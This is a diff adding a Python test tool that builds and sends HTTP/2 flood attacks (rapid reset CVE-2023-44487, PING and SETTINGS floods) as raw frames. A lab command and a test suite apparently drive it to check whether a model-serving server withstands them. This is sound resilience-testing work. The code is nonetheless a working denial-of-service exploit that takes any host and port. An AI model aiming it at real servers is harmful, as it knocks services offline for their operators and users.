@@ -1,0 +1,223 @@
+"""HTTP/2 floods, as raw frames: rapid reset (CVE-2023-44487), PINGs, SETTINGS.
+
+``flood_frames`` builds a flood ahead of time; ``flood`` sends it over one connection as
+fast as the socket takes it and reads what the server answers (its GOAWAY, its PING
+acks) until the server closes the connection. Over TLS (ALPN ``h2``) when given an
+``ssl.SSLContext``, else in the clear with prior knowledge (``h2c``, as
+``hypercorn -k trio app:app`` answers without a certificate).
+
+``python -m tools.h2flood HOST PORT SECONDS [--cert CERT]`` is an attacker in a process of
+its own, so that its work is not the measured server's or the measuring client's: it
+builds one flood of each kind and prints ``ready``; then for each line on its stdin, a
+round: the three floods, each over a connection of its own, spread over ``SECONDS``, each
+one's result printed as a JSON line, then ``done``. ``Attacker`` drives it, for
+``tools.lab rapidreset`` and ``tests/test_http2_flood.py``.
+
+The frames are built with hyperframe and hpack, not h2, whose client would stop at its
+flow-control window: the server hands the window back as it reads, and a rapid-reset
+client need not read.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import json
+import ssl
+import subprocess
+import sys
+from collections.abc import AsyncIterator, Sequence
+from contextlib import asynccontextmanager
+from dataclasses import asdict, dataclass
+from pathlib import Path
+from typing import Any
+
+import h2.config
+import h2.connection
+import h2.errors
+import h2.events
+import h2.exceptions
+import h2.settings
+import hpack
+import trio
+from hyperframe.frame import DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
+
+from tools.server import REPO_ROOT
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+FLOOD_BODY = {"prompt": "a", "max_new_tokens": 4}
+KINDS = ("reset", "ping", "settings")
+FLOOD_UNITS = 10_000  # the issue's: 10,000 HEADERS + DATA + RST_STREAM on one connection
+READ_TIMEOUT_S = 10.0  # a server that neither answers nor closes by then: the flood ends
+SEND_BYTES = 16384
+ATTACKER_TIMEOUT_S = 60.0  # for the attacker to build its floods, or to end a round
+
+
+def flood_frames(kind: str, count: int, host: str = "127.0.0.1", *, tls: bool = True) -> bytes:
+    """The client preface and ``count`` units of a flood, as raw frames: ``reset``, a
+    POST to /v1/stream (HEADERS, DATA) and its RST_STREAM; ``ping``, a PING; ``settings``,
+    a SETTINGS frame."""
+    encoder = hpack.Encoder()
+    payload = json.dumps(FLOOD_BODY).encode()
+    headers = [(":method", "POST"), (":scheme", "https" if tls else "http"),
+               (":authority", host), (":path", "/v1/stream"),
+               ("content-type", "application/json"), ("content-length", str(len(payload)))]
+    frames = [PREFACE, SettingsFrame(0).serialize()]
+    for i in range(count):
+        if kind == "reset":
+            stream_id = 1 + 2 * i
+            frames += [HeadersFrame(stream_id, encoder.encode(headers),
+                                    flags=["END_HEADERS"]).serialize(),
+                       DataFrame(stream_id, payload, flags=["END_STREAM"]).serialize(),
+                       RstStreamFrame(stream_id, h2.errors.ErrorCodes.CANCEL).serialize()]
+        elif kind == "ping":
+            frames.append(PingFrame(0, i.to_bytes(8, "big")).serialize())
+        elif kind == "settings":
+            frames.append(SettingsFrame(0, {h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE:
+                                            65536 + i % 2}).serialize())
+        else:
+            raise ValueError(kind)
+    return b"".join(frames)
+
+
+@dataclass(frozen=True)
+class FloodResult:
+    sent: int  # bytes the server took before it closed (of the flood's ``total``)
+    total: int
+    goaway: h2.events.ConnectionTerminated | None
+    goaway_after_s: float | None  # from the connection's start
+    ping_acks: int
+    elapsed_s: float  # until the server closed (or READ_TIMEOUT_S)
+
+    def to_json(self) -> dict[str, Any]:
+        goaway = None if self.goaway is None else int(self.goaway.error_code or 0)
+        return {**{k: v for k, v in asdict(self).items() if k != "goaway"}, "goaway": goaway}
+
+
+async def flood(host: str, port: int, context: ssl.SSLContext | None,
+                frames: bytes) -> FloodResult:
+    """Send ``frames`` over one connection (TLS with ``context``, else h2c), then read
+    what the server answers until it closes the connection (or ``READ_TIMEOUT_S``)."""
+    started = trio.current_time()
+    stream: trio.abc.Stream = await trio.open_tcp_stream(host, port)
+    if context is not None:
+        stream = tls = trio.SSLStream(stream, context, server_hostname="localhost")
+        await tls.do_handshake()
+        assert tls.selected_alpn_protocol() == "h2"
+    reader = h2.connection.H2Connection(
+        h2.config.H2Configuration(client_side=True, header_encoding=None))
+    reader.initiate_connection()  # only to parse the server's frames
+    reader.clear_outbound_data_buffer()
+    goaway, goaway_at, acks, sent = None, None, 0, 0
+
+    async def read() -> None:
+        nonlocal goaway, goaway_at, acks
+        with contextlib.suppress(trio.BrokenResourceError, h2.exceptions.ProtocolError):
+            while data := await stream.receive_some(65536):
+                for event in reader.receive_data(data):
+                    if isinstance(event, h2.events.ConnectionTerminated):
+                        goaway, goaway_at = event, trio.current_time() - started
+                    elif isinstance(event, h2.events.PingAckReceived):
+                        acks += 1
+
+    with trio.move_on_after(READ_TIMEOUT_S):
+        async with trio.open_nursery() as nursery:
+            nursery.start_soon(read)
+            with contextlib.suppress(trio.BrokenResourceError):
+                for start in range(0, len(frames), SEND_BYTES):
+                    if goaway is not None:  # the rest would only break the stream: a
+                        break  # Trio TLS stream whose send failed can no longer receive
+                    await stream.send_all(frames[start:start + SEND_BYTES])
+                    sent = start + SEND_BYTES
+    with contextlib.suppress(trio.BrokenResourceError):
+        await stream.aclose()
+    return FloodResult(min(sent, len(frames)), len(frames), goaway, goaway_at, acks,
+                       trio.current_time() - started)
+
+
+class Attacker:
+    """``python -m tools.h2flood`` in its own process, a round of floods at a time."""
+
+    def __init__(self, proc: trio.Process) -> None:
+        assert proc.stdin is not None and proc.stdout is not None
+        self.proc, self.stdin, self.stdout = proc, proc.stdin, proc.stdout
+        self.out = b""
+        self.results: list[dict[str, Any]] = []  # every flood's, in order
+
+    @classmethod
+    @asynccontextmanager
+    async def running(cls, host: str, port: int, seconds: float, *, cert: Path | None = None,
+                      units: int = FLOOD_UNITS) -> AsyncIterator[Attacker]:
+        """The attacker, its floods built; on exit its stdin is closed and it must end
+        cleanly (it is killed if the block fails)."""
+        command = [sys.executable, "-m", "tools.h2flood", host, str(port), str(seconds),
+                   "--units", str(units), *(["--cert", str(cert)] if cert else [])]
+        proc = await trio.lowlevel.open_process(command, cwd=REPO_ROOT, stdin=subprocess.PIPE,
+                                                stdout=subprocess.PIPE)
+        try:
+            attacker = cls(proc)
+            await attacker._read_until(b"ready\n")
+            yield attacker
+            await attacker.stdin.aclose()
+            with trio.fail_after(ATTACKER_TIMEOUT_S):
+                await proc.wait()
+            if proc.returncode != 0:
+                raise RuntimeError(f"the attacker exited with {proc.returncode}")
+        finally:
+            if proc.returncode is None:
+                proc.kill()
+                await proc.wait()
+
+    async def start_round(self) -> None:
+        """Start a round of floods; return at once."""
+        await self.stdin.send_all(b"go\n")
+
+    async def round_results(self) -> list[dict[str, Any]]:
+        """Wait for the round's end: its floods' results (also added to ``results``)."""
+        await self._read_until(b"done\n")
+        lines, _, self.out = self.out.partition(b"done\n")
+        results = [json.loads(line) for line in lines.decode().splitlines()
+                   if line.startswith("{")]
+        self.results += results
+        return results
+
+    async def _read_until(self, line: bytes) -> None:
+        with trio.fail_after(ATTACKER_TIMEOUT_S):
+            while line not in self.out:
+                chunk = await self.stdout.receive_some()
+                if not chunk:
+                    raise RuntimeError(f"the attacker ended early: {self.out[-2000:]!r}")
+                self.out += chunk
+
+
+def main(argv: Sequence[str]) -> None:
+    parser = argparse.ArgumentParser(prog="python -m tools.h2flood", description=__doc__,
+                                     formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("host")
+    parser.add_argument("port", type=int)
+    parser.add_argument("seconds", type=float, help="a round's floods are spread over this")
+    parser.add_argument("--cert", help="the server's certificate: TLS (else h2c)")
+    parser.add_argument("--units", type=int, default=FLOOD_UNITS, help="per flood")
+    args = parser.parse_args(argv)
+    context = None
+    if args.cert:
+        context = ssl.create_default_context(cafile=args.cert)
+        context.set_alpn_protocols(["h2"])
+    floods = [flood_frames(kind, args.units, args.host, tls=context is not None)
+              for kind in KINDS]
+
+    async def round_of_floods() -> None:
+        for kind, frames in zip(KINDS, floods, strict=True):
+            await trio.sleep(args.seconds / (len(floods) + 1))
+            result = await flood(args.host, args.port, context, frames)
+            print(json.dumps({"kind": kind, "units": args.units, **result.to_json()}),
+                  flush=True)
+
+    print("ready", flush=True)
+    while sys.stdin.readline():
+        trio.run(round_of_floods)
+        print("done", flush=True)
+
+
+if __name__ == "__main__":
+    main(sys.argv[1:])
